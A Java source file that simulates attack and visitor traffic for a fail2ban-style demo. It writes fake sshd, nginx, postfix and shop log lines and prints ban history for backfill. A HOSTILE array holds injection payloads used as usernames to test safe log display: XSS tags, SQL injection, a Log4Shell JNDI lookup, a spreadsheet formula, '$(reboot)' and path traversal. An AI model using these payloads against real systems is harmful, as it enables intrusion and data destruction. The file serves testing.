import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.StandardOpenOption;
import java.time.DayOfWeek;
import java.time.ZonedDateTime;
import java.time.format.DateTimeFormatter;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;

/**
 * The attackers and visitors of the demo. {@code java Traffic.java LOGS} appends lines to the log files in LOGS until it is
 * stopped; {@code java Traffic.java --history DAYS} prints the bans of that many days, one a line, for backfill.py.
 */
public class Traffic {
    /** A service under attack: its jail, its log and the ban time of its jail in seconds (jail.local has the same). */
    enum Service {
        SSHD("sshd", "auth.log", 600),
        NGINX_AUTH("nginx-http-auth", "nginx-error.log", 300),
        NGINX_BOTS("nginx-botsearch", "nginx-access.log", 3600),
        POSTFIX("postfix", "mail.log", 1200),
        SHOP("shop-login", "shop.log", 180);

        final String jail;
        final String log;
        final int banSeconds;

        Service(String jail, String log, int banSeconds) {
            this.jail = jail;
            this.log = log;
            this.banSeconds = banSeconds;
        }

        String attack(String address, String name, ZonedDateTime at) {
            int id = 1000 + Math.abs(address.hashCode() % 30000);
            return switch (this) {
                case SSHD -> "%s web1 sshd[%d]: Failed password for %s from %s port %d ssh2"
                        .formatted(SYSLOG.format(at), id, sshUser(name), address, 20000 + id);
                case NGINX_AUTH -> ("%s [error] 812#812: *%d user \"%s\": password mismatch, client: %s, server: intern.example.org,"
                                + " request: \"GET /admin HTTP/1.1\", host: \"intern.example.org\"")
                        .formatted(NGINX.format(at), id, escaped(name), address);
                case NGINX_BOTS -> "%s - - [%s] \"GET /%s HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.0 zgrab/0.x\""
                        .formatted(address, ACCESS.format(at), pick(PROBES));
                case POSTFIX -> "%s mx1 postfix/smtpd[%d]: warning: unknown[%s]: SASL LOGIN authentication failed: UGFzc3dvcmQ6"
                        .formatted(SYSLOG.format(at), id, address);
                case SHOP -> "%s shop[77]: login failed for \"%s\" from %s: wrong password"
                        .formatted(ISO.format(at), escaped(name) + "@example.org", address);
            };
        }

        String visit(ZonedDateTime at) {
            String guest = "192.0.2." + (200 + RANDOM.nextInt(20));
            return switch (this) {
                case SSHD -> "%s web1 sshd[%d]: Accepted publickey for deploy from %s port 51122 ssh2: ED25519 SHA256:k0nsole"
                        .formatted(SYSLOG.format(at), 900 + RANDOM.nextInt(99), guest);
                case NGINX_AUTH -> "%s [notice] 812#812: signal process started".formatted(NGINX.format(at));
                case NGINX_BOTS -> "%s - - [%s] \"GET /products/%d HTTP/1.1\" 200 5123 \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\""
                        .formatted(guest, ACCESS.format(at), RANDOM.nextInt(500));
                case POSTFIX -> "%s mx1 postfix/smtpd[800]: connect from mail.example.net[%s]".formatted(SYSLOG.format(at), guest);
                case SHOP -> "%s shop[77]: login of \"kim@example.org\" from %s".formatted(ISO.format(at), guest);
            };
        }
    }

    /** One address that tries one service until it gives up. */
    static final class Attack {
        final Service service = pick(TARGETS);
        final String name = pick(RANDOM.nextInt(8) == 0 ? HOSTILE : NAMES);
        final String address = attacker();
        int linesLeft = RANDOM.nextInt(5) == 0 ? 1 : 4 + RANDOM.nextInt(5);
    }

    static final Random RANDOM = new Random();
    static final DateTimeFormatter SYSLOG = DateTimeFormatter.ofPattern("MMM ppd HH:mm:ss", Locale.ENGLISH);
    static final DateTimeFormatter NGINX = DateTimeFormatter.ofPattern("yyyy/MM/dd HH:mm:ss", Locale.ENGLISH);
    static final DateTimeFormatter ACCESS = DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ENGLISH);
    static final DateTimeFormatter ISO = DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ssxxx", Locale.ENGLISH);

    /** A service stands here as often as it is attacked. */
    static final Service[] TARGETS = {
        Service.SSHD, Service.SSHD, Service.SSHD, Service.SSHD, Service.NGINX_BOTS, Service.NGINX_BOTS, Service.NGINX_BOTS,
        Service.POSTFIX, Service.POSTFIX, Service.SHOP, Service.SHOP, Service.NGINX_AUTH
    };
    static final String[] NAMES = {
        "root", "root", "root", "admin", "admin", "test", "ubuntu", "oracle", "postgres", "git", "pi", "deploy", "backup", "jenkins",
        "mysql", "ftpuser", "nagios", "minecraft", "info", "sales", "jürgen", "maria", "webmaster", "support"
    };
    /** Names an attacker chooses to hurt whoever reads the log in a browser, a shell or a spreadsheet. */
    static final String[] HOSTILE = {
        "<script>alert('bangui')</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE ban;--", "${jndi:ldap://192.0.2.1/a}",
        "#{7*7}", "=HYPERLINK(\"http://192.0.2.1\")", "$(reboot)", "../../etc/passwd", "%s%n%x", "\u202Etoor", "</title><svg onload=alert(1)>"
    };
    static final String[] PROBES = {
        "phpmyadmin/index.php", "wp-login.php", "administrator/index.php", "cgi-bin/luci", "mysqladmin/index.php", "roundcube/index.php"
    };

    static List<String> networks;
    /** Addresses that come back; a smaller index comes back more often. */
    static final List<String> regulars = new ArrayList<>();

    public static void main(String[] args) throws IOException, InterruptedException {
        networks = networks(Path.of(System.getProperty("networks")));
        Stream.generate(Traffic::newcomer).limit(25).forEach(regulars::add);
        if (args[0].equals("--history")) {
            history(Integer.parseInt(args[1]));
        } else {
            traffic(Path.of(args[0]));
        }
    }

    static void traffic(Path logs) throws IOException, InterruptedException {
        List<Attack> attacks = new ArrayList<>();
        long burstUntil = System.currentTimeMillis() + 15_000;
        while (true) {
            while (attacks.size() < 8) {
                attacks.add(new Attack());
            }
            Attack attack = attacks.get(RANDOM.nextInt(attacks.size()));
            append(logs.resolve(attack.service.log), attack.service.attack(attack.address, attack.name, ZonedDateTime.now()));
            if (--attack.linesLeft == 0) {
                attacks.remove(attack);
            }
            if (RANDOM.nextInt(3) == 0) {
                Service visited = pick(Service.values());
                append(logs.resolve(visited.log), visited.visit(ZonedDateTime.now()));
            }
            if (RANDOM.nextInt(400) == 0) {
                burstUntil = System.currentTimeMillis() + 10_000;
            }
            boolean burst = System.currentTimeMillis() < burstUntil;
            Thread.sleep((long) ((burst ? 80 : 350) * (0.2 + 1.6 * RANDOM.nextDouble()) / rhythm(ZonedDateTime.now())));
        }
    }

    /** Appends a line; a file of 4 MiB is put aside first, as logrotate would. */
    static void append(Path log, String line) throws IOException {
        if (Files.exists(log) && Files.size(log) > 4 << 20) {
            Files.move(log, log.resolveSibling(log.getFileName() + ".1"), StandardCopyOption.REPLACE_EXISTING);
        }
        byte[] bytes = (line + "\n").getBytes(StandardCharsets.UTF_8);
        Files.write(log, bytes, StandardOpenOption.CREATE, StandardOpenOption.APPEND);
    }

    /** Prints jail, address, time, ban seconds, ban count and the matched lines, separated by tabs, oldest first. */
    static void history(int days) {
        Map<String, Integer> counts = new HashMap<>();
        ZonedDateTime now = ZonedDateTime.now();
        for (ZonedDateTime hour = now.minusDays(days).truncatedTo(ChronoUnit.HOURS); hour.isBefore(now); hour = hour.plusHours(1)) {
            long bans = Math.round(rhythm(hour) * (10 + RANDOM.nextInt(40)));
            ZonedDateTime start = hour;
            Stream.generate(() -> start.plusSeconds(RANDOM.nextInt(3600)))
                    .limit(bans)
                    .filter(now::isAfter)
                    .sorted()
                    .forEach(at -> ban(at, counts));
        }
    }

    static void ban(ZonedDateTime at, Map<String, Integer> counts) {
        Attack attack = new Attack();
        Service service = attack.service;
        int count = counts.merge(service.jail + " " + attack.address, 1, Integer::sum);
        int seconds = service == Service.SSHD ? (int) Math.min(86_400, service.banSeconds * Math.pow(2, count - 1)) : service.banSeconds;
        List<String> lines = Stream.of(9, 5, 2, 0)
                .map(ago -> service.attack(attack.address, attack.name, at.minusSeconds(ago)))
                .toList();
        System.out.printf(
                "%s\t%s\t%d\t%d\t%d\t%s%n",
                service.jail, attack.address, at.toEpochSecond(), seconds, count, String.join("\t", lines));
    }

    /** Attackers have office hours too: most around two in the afternoon, fewer at week-ends. */
    static double rhythm(ZonedDateTime at) {
        double day = 1 + 0.4 * Math.sin((at.getHour() - 8) / 24.0 * 2 * Math.PI);
        return at.getDayOfWeek().compareTo(DayOfWeek.SATURDAY) < 0 ? day : 0.7 * day;
    }

    static String attacker() {
        if (RANDOM.nextInt(10) > 2) {
            return newcomer();
        }
        int index = RANDOM.nextInt(1 + RANDOM.nextInt(regulars.size()));
        if (RANDOM.nextInt(30) == 0) {
            regulars.set(index, newcomer());
        }
        return regulars.get(index);
    }

    /** Fills up a random prefix: two or three numbers of an IPv4 address, or the first groups of an IPv6 address. */
    static String newcomer() {
        String prefix = networks.get(RANDOM.nextInt(networks.size()));
        if (prefix.contains(":")) {
            return prefix + Integer.toHexString(1 + RANDOM.nextInt(0xfffe)) + "::" + Integer.toHexString(1 + RANDOM.nextInt(0xfffe));
        }
        String middle = prefix.chars().filter(c -> c == '.').count() == 2 ? "." : "." + RANDOM.nextInt(256) + ".";
        return prefix + middle + (1 + RANDOM.nextInt(254));
    }

    static List<String> networks(Path file) throws IOException {
        return Files.readAllLines(file).stream()
                .filter(line -> !line.startsWith("#"))
                .flatMap(line -> Stream.of(line.split(" ")).skip(1))
                .toList();
    }

    /** The daemon writes what it was sent; control and non-ASCII characters as octal, as sshd does. */
    static String sshUser(String name) {
        StringBuilder safe = new StringBuilder(name.equals("root") ? "" : "invalid user ");
        for (byte b : name.getBytes(StandardCharsets.UTF_8)) {
            safe.append(b >= ' ' && b < 127 ? String.valueOf((char) b) : "\\%03o".formatted(b & 0xff));
        }
        return safe.toString();
    }

    static String escaped(String name) {
        return name.replace("\\", "\\x5C").replace("\"", "\\x22");
    }

    @SafeVarargs
    static <T> T pick(T... choices) {
        return choices[RANDOM.nextInt(choices.length)];
    }
}
